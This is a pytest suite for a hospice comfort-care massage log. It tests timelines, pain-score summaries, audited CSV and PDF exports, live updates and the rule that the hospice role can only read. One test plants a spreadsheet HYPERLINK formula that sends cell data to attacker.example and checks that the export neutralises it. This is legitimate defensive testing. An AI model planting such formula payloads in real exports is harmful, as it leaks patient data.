"""The hospice comfort-care log: timeline, summary, trend, exports (audited), live, read-only."""

from __future__ import annotations

import csv
import io

import pytest
from litestar import Litestar
from litestar.handlers import HTTPRouteHandler
from pypdf import PdfReader
from sqlmodel import select

from server import db
from server.audit.models import AuditEvent
from server.auth.models import Role
from server.clock import SetClock
from server.settings import Settings
from server.spreadsheets import FORMULA_STARTS
from tests.clock import set_clock
from tests.conftest import SIGNABLE, ready_session, text_of
from tests.factories import World


async def session_with(therapist, patient: int, pre: int, post: int | None, stop: str = "") -> int:  # type: ignore[no-untyped-def]
    session_id = await ready_session(therapist, patient)
    await therapist.post(
        f"/api/sessions/{session_id}/scores",
        json={"client_id": f"log-pre-{session_id:05d}", "phase": "pre", "value": pre},
    )
    if stop:
        await therapist.post(f"/api/sessions/{session_id}/stop", json={"reason": stop})
        return session_id
    await therapist.post(
        f"/api/sessions/{session_id}/scores",
        json={"client_id": f"log-post-{session_id:05d}", "phase": "post", "value": post},
    )
    signed = await therapist.post(f"/api/sessions/{session_id}/sign", json=SIGNABLE)
    assert signed.status_code == 200, signed.text
    return session_id


async def comfort_history(therapist, nurse, patient: int, clock: SetClock) -> list[int]:  # type: ignore[no-untyped-def]
    """Three sessions and a stopped one, an hour apart, then a flag: the timeline has an order."""
    ids = []
    for pre, post in ((6, 3), (5, 4), (8, 5)):
        ids.append(await session_with(therapist, patient, pre, post))
        clock.advance(hours=1)
    await session_with(therapist, patient, 7, None, stop="Patient unwell")
    clock.advance(minutes=10)
    await nurse.post(
        f"/api/patients/{patient}/flags", json={"kind": "end_of_life_vigil", "note": "Family at bedside"}
    )
    return ids


async def test_log_shows_timeline_summary_and_trend_for_the_period(
    sign_in_as, clock: SetClock, world: World
) -> None:  # type: ignore[no-untyped-def]
    therapist, nurse, hospice = [await sign_in_as(u) for u in ("therapist", "nurse", "hospice")]
    patient = world.patient_ids["comfort"]
    first = {"id": (await comfort_history(therapist, nurse, patient, clock))[0]}
    await therapist.post(
        f"/api/sessions/{first['id']}/amendments", json={"reason": "Typo", "text": "Calmer after"}
    )

    page = text_of((await hospice.get(f"/comfort-care/{patient}")).text)
    assert "Sessions 4 (3 with pain before and after)" in page
    assert "Median pain before 6" in page and "Median pain after 4" in page
    assert "Mean change -2.3" in page and "Drop of 2 points or more 67%" in page
    assert "Stopped sessions Patient unwell: 1" in page
    assert "unavailable: End-of-life vigil" in page and "Family at bedside" in page
    assert "Stopped: Patient unwell" in page and "Amended by Therapist" in page and "Calmer after" in page
    assert page.index("unavailable: End-of-life vigil") < page.index("massage completed"), "newest first"
    assert "Pain before and after massage" in page and "Pain scores per session" in page

    empty = text_of((await hospice.get(f"/comfort-care/{patient}?start=2020-01-01&end=2020-01-31")).text)
    assert "Sessions 0" in empty and "No sessions in this period" in empty
    bad = await hospice.get(f"/comfort-care/{patient}?start=2026-12-01&end=2026-11-01")
    assert bad.status_code == 422


async def test_hospice_reads_only_comfort_care_patients(sign_in_as, world: World) -> None:  # type: ignore[no-untyped-def]
    hospice = await sign_in_as("hospice")
    assert (await hospice.get(f"/comfort-care/{world.patient_ids['ada']}")).status_code == 403
    assert (await hospice.get(f"/comfort-care/{world.patient_ids['hh']}")).status_code == 403  # another unit
    assert "Comfort-care log: Comfort, Test" in text_of((await hospice.get("/comfort-care")).text)


async def test_csv_and_pdf_exports_carry_the_sessions_and_are_audited(
    sign_in_as,
    world: World,
    clock: SetClock,
    settings: Settings,  # type: ignore[no-untyped-def]
) -> None:
    therapist, nurse, hospice = [await sign_in_as(u) for u in ("therapist", "nurse", "hospice")]
    patient = world.patient_ids["comfort"]
    await comfort_history(therapist, nurse, patient, clock)

    exported = await hospice.get(f"/comfort-care/{patient}/log.csv")
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [(r["pain before"], r["pain after"], r["change"]) for r in rows] == [
        ("6", "3", "-3"),
        ("5", "4", "-1"),
        ("8", "5", "-3"),
        ("7", "", ""),
    ]
    assert rows[3]["state"] == "stopped" and rows[3]["stop reason"] == "Patient unwell"

    pdf = await hospice.get(f"/comfort-care/{patient}/log.pdf")
    assert pdf.headers["content-type"] == "application/pdf"
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages)
    assert "Comfort, Test" in text and "Comfort-care massage log" in text
    assert "Stopped: Patient unwell" in text and "Median pain before" in text
    assert text.count("massage completed") == 3

    engine = db.make_engine(settings.resolved_database_url())
    async with db.make_session_maker(engine, set_clock())() as session:
        exports = (
            await session.exec(
                select(AuditEvent.detail).where(
                    AuditEvent.entity_type == "ComfortLog", AuditEvent.username == "hospice"
                )
            )
        ).all()
    await engine.dispose()
    assert any(d.startswith("export CSV") for d in exports) and any(
        d.startswith("export PDF") for d in exports
    )


async def test_the_log_updates_live_when_a_score_arrives(sign_in_as, world: World) -> None:  # type: ignore[no-untyped-def]
    therapist, hospice = [await sign_in_as(u) for u in ("therapist", "hospice")]
    patient = world.patient_ids["comfort"]
    with await hospice.websocket(f"/ws/patients/{patient}/comfort-log") as log:
        assert "Sessions 0" in text_of(log.receive_text(timeout=5))
        session_id = await ready_session(therapist, patient)
        await therapist.post(
            f"/api/sessions/{session_id}/scores",
            json={"client_id": "live-log-0001", "phase": "pre", "value": 4},
        )
        frame = log.receive_text(timeout=1)
        while "Pain 4" not in text_of(frame):
            frame = log.receive_text(timeout=1)
        assert f'id="comfort-log-{patient}"' in frame


def test_hospice_can_write_nothing_anywhere(app: Litestar) -> None:
    for route in app.routes:
        for handler in getattr(route, "route_handlers", []):
            if not isinstance(handler, HTTPRouteHandler) or not (
                handler.http_methods - {"GET", "HEAD", "OPTIONS"}
            ):
                continue
            if route.path == "/signin" or route.path == "/signout":
                continue
            allowed = set().union(*(getattr(g, "allowed_roles", set()) for g in handler.guards or []))
            assert Role.hospice not in allowed, f"{route.path} lets hospice write"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
async def test_a_note_that_looks_like_a_formula_is_exported_as_text(
    sign_in_as, world: World, start: str
) -> None:  # type: ignore[no-untyped-def]
    therapist, hospice = await sign_in_as("therapist"), await sign_in_as("hospice")
    patient = world.patient_ids["comfort"]
    note = f'{start}HYPERLINK("http://attacker.example/?"&A1,"Click")'
    session_id = await ready_session(therapist, patient)
    for phase, value in (("pre", 6), ("post", 3)):
        await therapist.post(
            f"/api/sessions/{session_id}/scores",
            json={"client_id": f"csv-{phase}-{ord(start):03d}", "phase": phase, "value": value},
        )
    signed = await therapist.post(f"/api/sessions/{session_id}/sign", json={**SIGNABLE, "note": note})
    assert signed.status_code == 200, signed.text
    exported = (await hospice.get(f"/comfort-care/{patient}/log.csv")).text
    cells = next(csv.DictReader(io.StringIO(exported)))
    assert not cells["note"].startswith(FORMULA_STARTS), "a leading quote keeps it text in a spreadsheet"
    assert cells["note"].removeprefix("'") == note.strip() and cells["change"] == "-3", "numbers stay numbers"
    if start == "=":
        pdf = (await hospice.get(f"/comfort-care/{patient}/log.pdf")).content
        text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
        assert '=HYPERLINK("http://attacker.example/?"&A1,"Click")' in " ".join(text.split()), (
            "shown literally"
        )
